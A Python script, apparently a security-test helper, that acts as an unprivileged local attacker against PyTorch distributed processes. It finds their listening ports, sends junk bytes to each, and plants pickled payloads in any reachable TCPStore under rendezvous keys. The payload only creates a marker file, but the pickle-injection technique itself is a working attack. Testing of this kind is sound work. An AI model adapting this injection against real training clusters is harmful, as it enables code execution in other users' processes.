"""Somebody else on this machine, who tries every port of some processes. Runs as a script, and as another user where it
may become one.

    python stranger.py LEAVES PID ...       prints one JSON line: {"uid": ..., "ports": [...], "stores": [...]}

LEAVES: a file that the attack's payload would make: a pickle, which whoever unpickles it runs. ports: those reached;
stores: those that speak TCPStore.
"""

import encodings.idna  # noqa: F401  (what is imported later may lie where another user cannot read)
import json
import os
import pickle
import signal
import socket
import sys
import time
from datetime import timedelta
from pathlib import Path

import psutil
from torch.distributed import TCPStore

NOBODY = 65534
GARBAGE = (b"", b"GET / HTTP/1.1\r\n\r\n", b"\x7f\xff\xff\xff", b"\xff" * 8, b"\0\0\1\0" + b"x" * 300)


class Payload:
    def __reduce__(self):
        return os.open, (sys.argv[1], os.O_CREAT | os.O_WRONLY, 0o600)


def listening(pid: int) -> list[tuple[str, int]]:
    found = [each for each in psutil.Process(pid).net_connections("tcp") if each.status == psutil.CONN_LISTEN]
    return [tuple(each.laddr) for each in found]


def attack_store(address: str, port: int) -> None:
    """Write the payload under the names that PyTorch's rendezvous reads, and under all that are there. Ends this
    process: with 0 if that went well."""
    try:
        store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False)
        store.set("stranger", "was here")
        names = store.list_keys() if hasattr(store, "list_keys") else []
        for name in [*names, "torch.rendezvous.none"]:
            store.set(name, pickle.dumps(Payload()))
    except RuntimeError:  # also what PyTorch says of no store, no answer and a store without list_keys
        os._exit(1)
    os._exit(0)


def is_store(address: str, port: int) -> bool:
    """Whether the attack went well: in a process of its own, since TCPStore waits for ever for what is none."""
    child = os.fork()
    if child == 0:
        attack_store(address, port)
    deadline = time.monotonic() + 4
    while time.monotonic() < deadline:
        if (ended := os.waitpid(child, os.WNOHANG))[0]:
            return ended[1] == 0
        time.sleep(0.05)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return False


def main() -> None:
    Path(sys.argv[1]).unlink(missing_ok=True)
    ports = {each for pid in sys.argv[2:] for each in listening(int(pid))}
    if os.geteuid() == 0:
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    held, reached = [], []
    for address, port in sorted(ports):
        for garbage in GARBAGE:  # connections that stay open, too
            try:
                held.append(socket.create_connection((address, port), 2))
                held[-1].sendall(garbage)
                reached.append(port)
            except OSError:
                continue
    stores = [port for address, port in sorted(ports) if is_store(address, port)]
    print(json.dumps({"uid": os.geteuid(), "ports": sorted(set(reached)), "stores": stores}), flush=True)
    sys.stdin.read()  # until the caller has seen what comes of it


if __name__ == "__main__":
    main()
